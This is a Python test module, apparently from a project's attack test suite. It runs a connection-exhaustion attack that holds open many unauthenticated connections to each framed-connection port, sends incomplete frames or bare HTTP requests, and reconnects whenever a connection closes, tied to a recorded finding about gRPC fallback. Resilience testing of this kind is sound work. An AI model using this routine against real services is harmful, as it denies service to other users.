"""A client occupies all unauthenticated connections of the framed-connection ports."""

import asyncio
import contextlib

from tests.attacks.target import AttackTarget

FINDING = "3: 80 unauthenticated framed connections make routers fall back to gRPC"

CONNECTIONS = 100


async def attack(target: AttackTarget) -> None:
    """Open many connections to each port. Send an HTTP request over half of them, and an incomplete
    frame over the others. Whenever a connection is closed, open it again."""
    addresses = [member.framed_address for member in target.members if member.framed_address]
    async with asyncio.TaskGroup() as tasks:
        for address in addresses:
            for number in range(CONNECTIONS):
                tasks.create_task(_occupy(target, address, number))


async def _occupy(target: AttackTarget, address: str, number: int) -> None:
    while not target.is_over:
        with contextlib.suppress(OSError):
            async with target.connection(address) as (reader, writer):
                writer.write(b"\x00\x00\x00" if number % 2 else b"GET / HTTP/1.1\r\n\r\n")
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(min(10.0, target.seconds_left)):
                        await reader.read()
        target.outcomes["connections"] += 1
        await target.sleep(0.2)
